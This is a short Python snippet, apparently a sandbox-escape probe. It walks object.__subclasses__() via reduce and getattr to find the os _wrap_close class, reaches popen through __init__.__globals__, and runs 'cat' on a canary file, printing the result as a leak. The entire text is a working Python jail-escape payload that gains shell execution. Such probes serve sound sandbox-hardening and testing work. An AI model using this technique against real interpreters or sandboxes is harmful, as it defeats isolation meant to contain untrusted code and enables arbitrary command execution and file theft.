# reduce with getattr walks a path given as text
from functools import reduce
path = "__class__ __base__ __subclasses__".split()
try:
    for cls in reduce(getattr, path, ())():
        if cls.__name__ == "_wrap_close":
            print("LEAK:", reduce(getattr, ["__init__", "__globals__"], cls)["popen"]("cat $HERSHY_CANARY_FILE").read())
except Exception as error:
    print(type(error).__name__)
